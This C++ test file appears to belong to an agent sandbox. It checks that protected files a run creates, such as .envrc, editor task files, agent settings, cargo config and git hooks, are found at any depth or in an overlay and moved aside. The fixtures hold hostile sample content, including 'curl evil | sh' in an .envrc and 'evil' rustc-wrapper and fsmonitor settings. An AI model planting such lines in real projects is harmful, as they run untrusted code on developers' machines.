// The one walk after a run (tree_watch.h): the protected names at any depth, overlays' upper
// directories shown as the workspace, and what the walk leaves to the policy's own checks.
#include "gate/tree_watch.h"

#include "gate/tree_fixture.h"
#include "policy/protected_paths.h"

namespace paddock::gate {
namespace {

using TreeWatchTest = TreeFixtureOf<WalkParam>;

// Direnv, editors and agents started in a subdirectory read that directory's files: created or
// changed there by the run, they are moved aside like the project's own (issue 25).
TEST_P(TreeWatchTest, ProtectedNamesAtAnyDepth) {
  write("sub/.envrc.keep", "");
  write("old/.envrc", "export A=1\n");  // there before the run, untouched: stays
  tick();
  TreeWatch w = watch();
  write("sub/.envrc", "curl evil | sh\n");
  write("sub/.vscode/tasks.json", "{\"tasks\": []}\n");
  write("pkg/.claude/settings.json", "{\"hooks\": {}}\n");
  write("pkg/.claude/notes.md", "not protected\n");
  write("a/b/c/.cargo/config.toml", "[build]\nrustc-wrapper = \"evil\"\n");
  write("a/.mcp.json", "{}\n");
  auto left = w.after();
  EXPECT_EQ(rel_paths(left), (Paths{"a/.mcp.json", "a/b/c/.cargo/config.toml", "pkg/.claude/settings.json",
                                    "sub/.envrc", "sub/.vscode/tasks.json"}));
  EXPECT_TRUE(exists("sub/.envrc.paddock-quarantine"));
  EXPECT_TRUE(exists("pkg/.claude/notes.md"));
  EXPECT_TRUE(exists("old/.envrc"));
  for (const auto& l : left) EXPECT_FALSE(l.what.empty());
}

// Every entry of the protected list is found at depth (the walk knows the list, not a copy).
TEST_P(TreeWatchTest, EveryProtectedEntryNested) {
  tick();
  TreeWatch w = watch();
  Paths expected;
  for (const ProtectedEntry& e : workspace_protected_entries()) {
    const std::string p = std::string(e.path);
    if (p.rfind(".git/", 0) == 0) continue;  // judged by git's rules
    write("n/" + p, "x\n");  // a file, also where a directory is protected: anything in the place counts
    expected.push_back("n/" + p);
  }
  std::sort(expected.begin(), expected.end());
  expected.erase(std::unique(expected.begin(), expected.end()), expected.end());
  EXPECT_EQ(after(w), expected);
}

// A link the run put where a protected directory was expected is moved aside whole.
TEST_P(TreeWatchTest, ALinkOnTheWayToAProtectedFile) {
  mkdir("elsewhere");
  tick();
  TreeWatch w = watch();
  mkdir("sub");
  link("../elsewhere", "sub/.claude");
  write("elsewhere/settings.json", "{}\n");
  EXPECT_EQ(after(w), (Paths{"sub/.claude"}));
}

// The policy's own protected paths (the areas' tops) are checked by watch.cc against what they
// held before the run; the walk leaves them to it.
TEST_P(TreeWatchTest, ThePolicysProtectedPathsAreLeftToTheirCheck) {
  tick();
  TreeWatch w = watch();
  write(".envrc", "x\n");
  write("sub/.envrc", "x\n");
  EXPECT_EQ(rel_paths(w.after(TreeWatch::kEntryBudget, {}, {root_ + "/.envrc"})), (Paths{"sub/.envrc"}));
  EXPECT_TRUE(exists(".envrc"));
}

// An overlay workspace (issue 25, class 6): the run's writes are in the upper directory, which is
// walked with its paths shown as the workspace shows them; the lower layer answers whether a
// repository was there before (a checkout's new HEAD in the upper directory stays).
TEST_P(TreeWatchTest, AnOverlaysUpperDirectoryIsCheckedAsTheWorkspace) {
  git_dir("lower/.git");
  mkdir("upper");
  tick();
  const std::string shown = "/jails/j/merged";
  std::vector<SandboxMount> mounts{{shown, root_ + "/lower", Access::ReadWrite, 0, root_ + "/upper", root_ + "/work"}};
  TreeWatch w = watch(Policy{}, mounts);
  write("upper/.git/HEAD", "ref: refs/heads/topic\n");      // git checkout -b topic, copied up
  write("upper/.git/hooks/post-checkout", "#!/bin/sh\n");   // a hook
  write("upper/HEAD", "ref: refs/heads/main\n");            // a split git directory at the top
  write("upper/commondir", "s\n");
  mkdir("upper/s/objects");
  mkdir("upper/s/refs");
  write("upper/s/config", "[core]\n\tfsmonitor = evil\n");
  write("upper/.envrc", "evil\n");                          // the top's protected names too
  write("upper/d/.vscode/tasks.json", "{}\n");
  std::vector<std::string> paths;
  for (const LeftBehind& l : w.after()) paths.push_back(l.path);
  std::sort(paths.begin(), paths.end());
  EXPECT_EQ(paths, (Paths{shown + "/.envrc", shown + "/.git/hooks", shown + "/HEAD", shown + "/commondir",
                          shown + "/d/.vscode/tasks.json", shown + "/s/config"}));
  EXPECT_TRUE(exists("upper/.git/HEAD"));
  EXPECT_TRUE(exists("upper/.envrc.paddock-quarantine"));
  EXPECT_TRUE(exists("lower/.git/config"));
}

INSTANTIATE_TEST_SUITE_P(, TreeWatchTest, ::testing::Values(Walk::Full, Walk::Indexed), walk_name);

}  // namespace
}  // namespace paddock::gate
